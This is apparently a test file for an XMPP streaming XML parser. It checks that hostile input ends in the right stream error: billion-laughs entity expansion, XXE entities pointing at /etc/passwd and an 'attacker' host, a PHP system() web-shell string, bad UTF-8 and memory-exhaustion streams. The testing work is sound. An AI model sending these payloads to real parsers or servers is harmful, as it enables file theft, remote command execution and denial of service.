// The attack catalogue: what a hostile peer sends to a parser on an open port, the stream error
// each must end in, and the stanzas before it that must still be delivered. Small attacks run
// as event-log fixtures (one write, byte by byte, random chunkings); the large ones stream
// generated chunks through a child process that reports its memory (attack-memory.mjs).
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse, StreamParser } from '../../bindings/index.js';
import { byteLength, concatBytes, H, HEADER, inStream, rawBytes, runFixtures, stanza, START } from '../helpers/event-log.js';
import type { Fixture, LoggedEvent } from '../helpers/event-log.js';

/** A stanza every attack sends first: it must be delivered before the error. */
const FIRST = '<message to="juliet@example.com"><body>hi</body></message>';
const DELIVERED = stanza(FIRST, H);
const AFTER_FIRST = H + byteLength(FIRST);

/**
 * HEADER + FIRST + `attack`; the error must lie where `marker` (a substring of the attack,
 * the first occurrence, plus `shift` bytes) starts.
 */
function attack(name: string, body: string | Uint8Array, condition: string, marker: string | number, shift = 0): Fixture {
  const text = typeof body === 'string' ? body : String.fromCharCode(...body);
  const at = typeof marker === 'number' ? marker : text.indexOf(marker);
  if (at < 0) throw new Error(`marker ${marker} not in ${name}`);
  const offset = AFTER_FIRST + (typeof body === 'string' ? byteLength(text.slice(0, at)) : at) + shift;
  return inStream(name, concatBytes(FIRST, body), [DELIVERED, { error: condition, offset }]);
}

const DECLARATION = "<?xml version='1.0'?>";
const STREAM_OPEN = HEADER.slice(DECLARATION.length);
const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
  ']>';

describe('entity expansion and external entities (DTDs) → restricted-xml', () => {
  runFixtures([
    {
      name: 'billion laughs before the stream header',
      input: DECLARATION + LAUGHS + STREAM_OPEN + '&lol9;',
      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
    },
    attack('billion laughs between stanzas', LAUGHS + '<message>&lol9;</message>', 'restricted-xml', '<!DOCTYPE'),
    attack('the laugh without its DTD', '<message><body>&lol9;</body></message>', 'restricted-xml', '&lol9;'),
    {
      name: 'XXE: an external entity before the header',
      input: DECLARATION + '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + STREAM_OPEN,
      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
    },
    attack(
      'XXE: an external parameter entity inside a stanza',
      '<iq type="get"><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker/x">%p;]></iq>',
      'restricted-xml',
      '<!DOCTYPE',
    ),
    attack('XXE: the reference alone', '<message><body>&xxe;</body></message>', 'restricted-xml', '&xxe;'),
  ]);
});

describe('comments and PIs at every depth and before the header → restricted-xml', () => {
  const nested = (depth: number, inner: string) => '<a>'.repeat(depth) + inner + '</a>'.repeat(depth);
  runFixtures([
    { name: 'a comment before the XML declaration', input: '<!-- hi -->' + HEADER, events: [{ error: 'restricted-xml', offset: 0 }] },
    {
      name: 'a comment between the declaration and the header',
      input: DECLARATION + '<!-- hi -->' + STREAM_OPEN,
      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
    },
    { name: 'a PI before the header', input: '<?php system($_GET["c"]); ?>' + HEADER, events: [{ error: 'restricted-xml', offset: 0 }] },
    {
      name: 'a PI between the declaration and the header',
      input: DECLARATION + '<?xml-stylesheet href="x"?>' + STREAM_OPEN,
      events: [{ error: 'restricted-xml', offset: DECLARATION.length }],
    },
    attack('a comment at depth 1 (between stanzas)', '<!-- hi -->', 'restricted-xml', 0),
    attack('a PI at depth 1 (between stanzas)', '<?pi x?>', 'restricted-xml', 0),
    ...[2, 3, 10].flatMap((depth) => [
      attack(`a comment at depth ${depth}`, nested(depth - 1, '<!-- hi -->'), 'restricted-xml', '<!--'),
      attack(`a PI at depth ${depth}`, nested(depth - 1, '<?pi x?>'), 'restricted-xml', '<?pi'),
    ]),
    attack('a comment in an attribute value is a < in an attribute', '<a b="<!-- x -->"/>', 'not-well-formed', '<!--'),
  ]);
});

describe('namespaces and attributes → not-well-formed', () => {
  runFixtures([
    attack('duplicate attribute', '<message to="a@b" to="c@d"/>', 'not-well-formed', 'to="c@d"'),
    attack('duplicate attribute by expanded name', '<message xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2"/>', 'not-well-formed', 0),
    attack('duplicate namespace declaration', '<message xmlns:a="urn:x" xmlns:a="urn:y"/>', 'not-well-formed', 'xmlns:a="urn:y"'),
    attack('undeclared element prefix', '<foo:message/>', 'not-well-formed', 0),
    attack('undeclared attribute prefix', '<message foo:to="x"/>', 'not-well-formed', 0),
    inStream('a prefix declared only on a sibling', `${FIRST}<a xmlns:p="urn:p"/><p:b/>`, [
      DELIVERED,
      stanza('<a xmlns:p="urn:p"/>', AFTER_FIRST),
      { error: 'not-well-formed', offset: AFTER_FIRST + byteLength('<a xmlns:p="urn:p"/>') },
    ]),
    attack('xmlns:p="" (undeclaring a prefix, Namespaces 1.1 only)', '<message xmlns:p=""/>', 'not-well-formed', 0),
    attack('rebinding the xml prefix', '<message xmlns:xml="urn:not-xml"/>', 'not-well-formed', 0),
    attack(
      'binding another prefix to the XML namespace',
      '<message xmlns:x="http://www.w3.org/XML/1998/namespace"/>',
      'not-well-formed',
      0,
    ),
    attack('declaring the xmlns prefix', '<message xmlns:xmlns="urn:x"/>', 'not-well-formed', 0),
    attack('an element in the xmlns prefix', '<xmlns:message/>', 'not-well-formed', 0),
  ]);
});

/** Byte sequences that are not UTF-8 (RFC 3629 §3, §4), as latin1 strings. */
const BAD_SEQUENCES: Record<string, string> = {
  'overlong 2-byte form of "/"': '\xc0\xaf',
  'overlong 2-byte form of "<" (C1)': '\xc1\xbc',
  'overlong 3-byte form': '\xe0\x80\xaf',
  'overlong 4-byte form': '\xf0\x80\x80\xaf',
  'a UTF-16 high surrogate': '\xed\xa0\x80',
  'a UTF-16 low surrogate': '\xed\xbf\xbf',
  'a surrogate pair encoded as CESU-8': '\xed\xa0\xbd\xed\xb8\x80',
  'U+110000 (F4 90)': '\xf4\x90\x80\x80',
  'F5 lead byte (beyond U+10FFFF)': '\xf5\x80\x80\x80',
  'a lone continuation byte 80': '\x80',
  'a lone continuation byte BF': '\xbf',
  'a lead byte followed by ASCII': '\xc3(',
  'a 3-byte sequence cut after 2 bytes': '\xe2\x82',
};

describe('bad UTF-8 → unsupported-encoding', () => {
  const inBody = (bytes: string) => rawBytes(`<message><body>x${bytes}y</body></message>`);
  const inValue = (bytes: string) => rawBytes(`<message id="x${bytes}y"/>`);
  const at = 16; // offset of the bad bytes in inBody()
  runFixtures([
    ...Object.entries(BAD_SEQUENCES).map(([name, bytes]) => attack(name, inBody(bytes), 'unsupported-encoding', at)),
    attack('0xFF in an attribute value', inValue('\xff'), 'unsupported-encoding', 14),
    attack('0xFE in an attribute value', inValue('\xfe'), 'unsupported-encoding', 14),
    attack('bad UTF-8 in an element name', rawBytes('<mess\xc0\xafage/>'), 'unsupported-encoding', 5),
    attack('bad UTF-8 in an attribute name', rawBytes('<message t\xffo="x"/>'), 'unsupported-encoding', 10),
    inStream('a sequence truncated at the end of the stream', concatBytes(FIRST, rawBytes('<message><body>\xe2\x82')), [
      DELIVERED,
      { error: 'unsupported-encoding', offset: AFTER_FIRST + 15 },
    ]),
    {
      name: 'UTF-16 instead of UTF-8 (a zero byte at the start)',
      input: rawBytes('\x00<\x00?\x00x\x00m\x00l'),
      events: [{ error: 'unsupported-encoding', offset: 0 }],
    },
    { name: 'a UTF-16 byte order mark', input: rawBytes('\xff\xfe<\x00'), events: [{ error: 'unsupported-encoding', offset: 0 }] },
    {
      name: 'another declared encoding',
      input: "<?xml version='1.0' encoding='ISO-8859-1'?>" + STREAM_OPEN,
      events: [{ error: 'unsupported-encoding', offset: 0 }],
    },
  ]);

  it('a sequence split across writes is accepted, and rejected when the next write breaks it', () => {
    const events: string[] = [];
    const parser = new StreamParser();
    parser.on('element', (element) => events.push(element.getChildText('body') ?? ''));
    parser.on('error', (error) => events.push(`${error.condition}@${error.offset}`));
    parser.write(HEADER + '<message><body>');
    parser.write(rawBytes('\xe2\x82'));
    parser.write(rawBytes('\xac</body></message><message><body>\xe2\x82'));
    parser.write('(</body></message>');
    const badAt = H + byteLength('<message><body>€</body></message><message><body>');
    expect(events).toEqual(['€', `unsupported-encoding@${badAt}`]);
  });
});

describe('characters, references and markup → not-well-formed', () => {
  const controls = ['\x00', '\x01', '\x08', '\x0b', '\x0c', '\x1b', '\x1f'];
  runFixtures([
    ...controls.map((c) =>
      attack(
        `C0 control U+${c.charCodeAt(0).toString(16).padStart(4, '0')} in text`,
        `<message><body>a${c}</body></message>`,
        'not-well-formed',
        c,
      ),
    ),
    attack('NUL in an attribute value', '<message id="a\x00"/>', 'not-well-formed', '\x00'),
    attack('U+FFFE in text', '<message><body>\ufffe</body></message>', 'not-well-formed', '\ufffe'),
    ...['&#0;', '&#x0;', '&#1;', '&#x1F;', '&#xD800;', '&#xDFFF;', '&#xFFFE;', '&#xFFFF;', '&#x110000;', '&#99999999999;'].map((ref) =>
      attack(`character reference ${ref}`, `<message><body>${ref}</body></message>`, 'not-well-formed', ref),
    ),
    attack('a character reference to NUL in an attribute', '<message id="&#0;"/>', 'not-well-formed', '&#0;'),
    attack("']]>' in text", '<message><body>a]]>b</body></message>', 'not-well-formed', ']]>'),
    attack('an unquoted attribute', '<message to=juliet/>', 'not-well-formed', 'juliet'),
    attack("'<' in an attribute value", '<message to="a<b"/>', 'not-well-formed', '<b'),
    attack('an element name starting with a digit', '<1message/>', 'not-well-formed', '1'),
    attack('an attribute name starting with a digit', '<message 1to="x"/>', 'not-well-formed', '1to'),
    attack("'&amp' without ';'", '<message><body>&amp </body></message>', 'not-well-formed', '&amp'),
    attack("'&' alone", '<message><body>a & b</body></message>', 'not-well-formed', '&'),
    attack('mismatched end tag', '<message><body>x</message></body>', 'not-well-formed', '</message>'),
  ]);
});

describe('the XML declaration and the BOM', () => {
  runFixtures([
    {
      name: 'a UTF-8 BOM before the header is accepted and skipped',
      input: concatBytes(rawBytes('\xef\xbb\xbf'), HEADER, FIRST),
      events: [START, stanza(FIRST, H + 3)],
      end: false,
    },
    {
      name: 'a second BOM is text at the top level',
      input: concatBytes(rawBytes('\xef\xbb\xbf\xef\xbb\xbf'), HEADER),
      events: [{ error: 'not-well-formed', offset: 3 }],
    },
    { name: 'whitespace before the XML declaration', input: ' ' + HEADER, events: [{ error: 'not-well-formed', offset: 1 }] },
    attack('an XML declaration mid-stream', DECLARATION, 'not-well-formed', 0),
    attack('an XML declaration inside a stanza', `<message>${DECLARATION}</message>`, 'not-well-formed', DECLARATION),
    { name: 'XML 1.1', input: "<?xml version='1.1'?>" + STREAM_OPEN, events: [{ error: 'not-well-formed', offset: 0 }] },
    { name: 'XML 2.0', input: "<?xml version='2.0'?>" + STREAM_OPEN, events: [{ error: 'not-well-formed', offset: 0 }] },
  ]);
});

describe('stream structure', () => {
  const open = (attrs: string) => `<stream:stream ${attrs} to="example.com" version="1.0">`;
  const streamsNs = 'xmlns:stream="http://etherx.jabber.org/streams"';
  runFixtures([
    {
      name: 'wrong stream namespace',
      input: open('xmlns="jabber:client" xmlns:stream="http://etherx.jabber.org/streamz"'),
      events: [{ error: 'invalid-namespace', offset: 0 }],
    },
    {
      name: 'wrong content namespace',
      input: open(`xmlns="jabber:evil" ${streamsNs}`),
      events: [{ error: 'invalid-namespace', offset: 0 }],
    },
    { name: 'no content namespace', input: open(streamsNs), events: [{ error: 'invalid-namespace', offset: 0 }] },
    {
      name: 'the stream element under another name',
      input: `<stream:flow xmlns="jabber:client" ${streamsNs}>`,
      events: [{ error: 'invalid-namespace', offset: 0 }],
    },
    attack('text at depth 1', 'hello', 'not-well-formed', 0),
    attack('a CDATA section at depth 1', '<![CDATA[x]]>', 'not-well-formed', 0),
    attack('an end tag for an element never opened', '</message>', 'not-well-formed', 0),
    inStream('content after </stream:stream>', `${FIRST}</stream:stream><message/>`, [
      DELIVERED,
      { end: 'stream:stream' },
      { error: 'not-well-formed', offset: AFTER_FIRST + byteLength('</stream:stream>') },
    ]),
    inStream('text after </stream:stream>', `${FIRST}</stream:stream>bye`, [
      DELIVERED,
      { end: 'stream:stream' },
      { error: 'not-well-formed', offset: AFTER_FIRST + byteLength('</stream:stream>') },
    ]),
  ]);
});

describe('the end of the input', () => {
  const endedInsideAStanza = (write: (parser: StreamParser) => void) => {
    const parser = new StreamParser();
    parser.on('error', () => {});
    write(parser);
    return parser.error === null ? null : `${parser.error.condition}@${parser.error.offset}`;
  };
  const cut = HEADER + '<message><body>x&am';

  it('a stream cut inside a stanza is not-well-formed at its unfinished token', () => {
    expect(
      endedInsideAStanza((p) => {
        p.write(cut);
        p.end();
      }),
    ).toBe(`not-well-formed@${H + 16}`);
  });

  // When the final bytes come with end(chunk) (as in parse()), text followed by a cut reference
  // in that last window must end in the same error.
  it('the same, with the last bytes passed to end()', () => {
    expect(endedInsideAStanza((p) => p.end(cut))).toBe(`not-well-formed@${H + 16}`);
  });
});

describe('resource exhaustion → policy-violation with memory bounded', () => {
  const memoryScript = fileURLToPath(new URL('./attack-memory.mjs', import.meta.url));
  // Growth of the child's RSS while streaming: the input is 3 MB to 100 MB; the limits cap what is held.
  const MAX_GROWTH = 48 * 1024 * 1024;
  for (const name of [
    'nested-100k',
    'nested-1M',
    'attributes-30k',
    'namespaces-100k',
    'attribute-value-10MB',
    'text-node-100MB',
    'text-node-100MB-limit-16MB',
  ]) {
    it(name, () => {
      const run = spawnSync(process.execPath, ['--expose-gc', memoryScript, name], { encoding: 'utf8', timeout: 120_000 });
      expect(run.status, run.stderr).toBe(0);
      const report = JSON.parse(run.stdout);
      expect(report.delivered).toEqual(['message']);
      expect(report.error).toBe('policy-violation');
      expect(report.inputBytes).toBeGreaterThan(report.errorOffset);
      expect(report.rssGrowth, JSON.stringify(report)).toBeLessThan(MAX_GROWTH);
    });
  }

  it('the limits hold for standalone documents too', () => {
    const deep = '<a>'.repeat(100_000);
    expect(() => parse(deep)).toThrow(expect.objectContaining({ condition: 'policy-violation' }));
    const wide = `<a ${Array.from({ length: 30_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`;
    expect(() => parse(wide)).toThrow(expect.objectContaining({ condition: 'policy-violation' }));
  });
});

describe('recovery', () => {
  it('a parser that errored and was reset parses a new stream', () => {
    const events: LoggedEvent[] = [];
    const parser = new StreamParser();
    parser.on('start', (header) => events.push({ start: header.name, attrs: {} }));
    parser.on('element', (element) => events.push({ element: element.toString(), offset: 0, length: 0 }));
    parser.on('error', (error) => events.push({ error: error.condition, offset: error.offset }));
    parser.write(HEADER + '<message><!-- x --></message>');
    expect(parser.error?.condition).toBe('restricted-xml');
    parser.write(FIRST); // ignored: the parser stays stopped until reset()
    parser.reset();
    expect(parser.error).toBeNull();
    parser.write(HEADER + FIRST);
    expect(events).toEqual([
      { start: 'stream:stream', attrs: {} },
      { error: 'restricted-xml', offset: H + 9 },
      { start: 'stream:stream', attrs: {} },
      { element: FIRST, offset: 0, length: 0 },
    ]);
  });

  // The lexer's symbol cache once kept a name the binding never read when the declaration
  // check stopped the window first; every later parse then saw that name as ''.
  it('a stream refused at its declaration does not change the names of later parses', () => {
    expect(() => parse('<?xml version="1.0" encoding="UTF-16"?><root/>')).toThrow(
      expect.objectContaining({ condition: 'unsupported-encoding' }),
    );
    expect(parse('<root/>').name).toBe('root');
  });
});
